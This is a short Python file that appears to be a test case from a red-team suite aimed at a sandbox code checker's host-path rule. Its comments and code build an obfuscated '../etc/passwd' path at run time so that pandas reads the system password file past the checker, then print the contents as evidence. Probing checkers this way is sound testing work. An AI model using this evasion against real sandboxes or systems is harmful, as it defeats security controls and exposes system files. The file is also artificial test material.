# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 5 f-string path under /data with '..' at run time
# source: own; README host-path f-string rule
# family: host-path / file I/O: f-string split across adjacent literals / rf prefix
# goal: read /etc/passwd (or write outside cwd) through a file API the host-path rule should cover
# needs-data
import json
import pandas as pd
x = "." * 2 + "/etc/passwd".replace("/", chr(47))
df = pd.read_csv(rf"/data/{x}", sep=":", header=None)
print(json.dumps({"evidence": str(df.iloc[0].tolist())}))
